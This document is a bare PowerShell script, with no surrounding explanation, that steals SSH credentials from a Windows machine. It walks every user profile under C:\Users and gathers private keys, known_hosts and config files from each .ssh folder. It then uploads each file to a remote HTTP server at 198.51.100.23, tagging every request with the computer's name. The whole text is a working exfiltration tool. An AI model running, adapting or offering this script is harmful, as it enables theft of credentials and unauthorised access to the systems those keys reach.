$targets = gci -Path C:\Users -Directory -ErrorAction SilentlyContinue
$found = @()
foreach ($t in $targets) {
    $sshDir = Join-Path $t.FullName '.ssh'
    if (Test-Path $sshDir) {
        $found += gci $sshDir -File | ? { $_.Name -match '^id_|known_hosts|config' }
    }
}

$wc = New-Object System.Net.WebClient
$wc.Headers.Add('X-Host', $env:COMPUTERNAME)
foreach ($f in $found) {
    $wc.UploadFile("http://198.51.100.23:8080/up/$($f.Name)", $f.FullName) | Out-Null
}
